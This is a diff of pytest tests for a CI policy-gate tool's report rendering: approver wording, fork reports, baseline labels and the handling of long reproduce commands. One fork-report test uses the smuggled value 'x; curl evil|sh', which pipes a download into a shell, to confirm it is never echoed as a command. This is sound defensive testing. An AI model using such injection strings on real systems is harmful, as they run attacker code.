@@ -11,10 +11,12 @@ from rendered_page import ALIVE, page
 from policy_gate.errors import Problem, Reason
 from policy_gate.model import BaseState, Fix, Mode, Outcome, Place, ReleaseIdentity, Subject
 from policy_gate.overview import Suggestion
+from policy_gate.report.check_run import render_check_run
 from policy_gate.report.comment import MAX_ROWS, MAX_UNITS, Standing, render_comment, render_green
 from policy_gate.report.comment_rule import by_rule, can_waive, waive_command
 from policy_gate.report.escaping import utf16_units
 from policy_gate.report.findings import findings
+from policy_gate.report.summary import render_summary
 from policy_gate.review import Direction
 
 ALLOWED_TAGS = {
@@ -283,6 +285,37 @@ def test_what_loosens_the_judge_comes_first_with_the_command_that_approves_it():
     assert f"policy-gate waive --approve {looser.digest}" in text
 
 
+@pytest.mark.parametrize(
+    ("given_by", "words"),
+    [
+        ({"approved_by": ("lab <b>key</b>",)}, "the signature of `lab <b>key</b>`"),
+        ({"reviewed_by": ("lee (team acme/edge)", "@mo")}, "the GitHub review of `lee (team acme/edge)`, `@mo`"),
+    ],
+)
+def test_a_table_that_is_approved_says_by_whom_and_asks_for_no_signature(given_by, words):
+    looser = review()
+    approved = replace(looser, changes=(replace(looser.changes[0], **given_by),))
+    text = rendered(of(review=approved))
+    assert f"This table is approved by {words}: `{looser.digest}`" in text
+    assert "waive --approve" not in text
+
+
+def test_a_report_of_a_fork_has_no_command_of_its_authors_words():
+    text = rendered(of(judgement("x; curl evil|sh"), reported_by_fork=True))
+    assert "Explain" not in text
+    assert "policy-gate waive" not in text
+
+
+@pytest.mark.parametrize(
+    ("state", "words"), [(BaseState.FIRST_RELEASE, "no baseline"), (BaseState.BROKEN, "base unreadable")]
+)
+def test_a_base_that_is_broken_is_not_called_no_baseline(state, words):
+    gone = {"base_state": state, "base_note": state.value}
+    fleet = overview(record(judgement(base=None), **gone), record(judgement(base=None), name="b", **gone))
+    for text in (rendered(fleet), render_summary(fleet)):
+        assert {"no baseline", "base unreadable"} & set(page(text).cells) == {words}
+
+
 def test_every_computed_change_is_shown_also_those_on_the_diff():
     made = of(judgement(), suggestions=(suggestion(), suggestion(path="other.yaml", changes_signed_bytes=True)))
     text = rendered(made, Standing(on_lines={0}))
@@ -305,7 +338,13 @@ def test_warnings_and_what_is_only_recorded_stand_behind_one_click():
 
 
 def test_a_long_command_to_reproduce_is_not_cut_into_another_one():
-    assert "How to reproduce this is in the job summary." in rendered(of(judgement(), reproduce="x " * 2000))
+    for command in ("x " * 2000, "x\u202ey"):
+        long = of(judgement(), reproduce=command)
+        for text in (rendered(long), render_summary(long), render_check_run(long).summary):
+            assert "How to reproduce this is in the log." in text
+            assert "Reproduce" not in text
+    middle = "policy-gate check " + "m/release.yaml " * 100
+    assert f"`{middle.strip()}`" in render_summary(of(judgement(), reproduce=middle.strip()))
     assert "```sh\npolicy-gate check\n```" in rendered(of(judgement(), reproduce="policy-gate check"))
 
 
